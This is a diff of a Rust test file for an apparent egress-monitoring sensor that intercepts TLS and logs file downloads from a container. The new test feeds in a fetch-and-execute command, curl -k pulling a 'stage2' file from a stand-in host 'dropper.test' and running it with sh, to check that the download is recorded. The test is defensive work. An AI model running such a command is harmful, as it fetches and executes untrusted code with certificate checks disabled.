@@ -8,7 +8,8 @@ use std::sync::{Arc, Mutex};
 use std::time::Duration;
 
 use hermes_core::address_block::AddressBlock;
-use hermes_core::capture::{FileStore, sha256_hex};
+use hermes_core::boxnet::BoxOwner;
+use hermes_core::capture::{FetchHints, FileStore, sha256_hex};
 use hermes_core::config::EgressConfig;
 use hermes_core::events::{ConnectionContext, Event, EventId};
 use hermes_core::ids::SessionId;
@@ -208,7 +209,7 @@ fn rig_on(ports: &[u16], verify: bool, trusted: &[CertificateDer<'static>]) -> R
     };
     let ctx = BoxContext {
         container_id: "c0ffee".to_owned(),
-        owner: Arc::new(move || Some(owner.clone())),
+        owner: Arc::new(move || Some(BoxOwner::from(owner.clone()))),
         events: bus,
     };
     let ca = SensorCa::generate(&ca_name()).expect("sensor ca");
@@ -283,6 +284,34 @@ impl Rig {
     fn sensor_ca(&self) -> Vec<CertificateDer<'static>> {
         vec![self.gateway.ca().certificate_der().clone()]
     }
+}
+
+#[tokio::test]
+async fn an_https_download_a_command_asked_for_gets_its_destfile() {
+    let web = test_ca();
+    let leaf = web.leaf(&["dropper.test", "127.0.0.1"]);
+    let payload = b"stage two\n".to_vec();
+    let server = server(leaf, payload.clone()).await;
+    let mut rig = rig(server.address.port(), true, std::slice::from_ref(&web.der));
+    let hints = FetchHints::default();
+    hints.note("curl -k -sS -o /tmp/s2 HTTPS://dropper.test:443/stage2.bin && sh /tmp/s2");
+    let owner = BoxOwner {
+        context: (rig.ctx.owner)().expect("an owner").context,
+        hints,
+    };
+    rig.ctx.owner = Arc::new(move || Some(owner.clone()));
+    rig.fetch(
+        server.address,
+        dns("dropper.test"),
+        &rig.sensor_ca(),
+        "/stage2.bin",
+    )
+    .await
+    .expect("the box trusts the minted certificate");
+    let event = rig.one(EventId::FileDownload);
+    assert_eq!(text(&event, "url"), "https://dropper.test/stage2.bin");
+    assert_eq!(text(&event, "shasum"), sha256_hex(&payload));
+    assert_eq!(text(&event, "destfile"), "/tmp/s2");
 }
 
 fn text(event: &Event, field: &str) -> String {
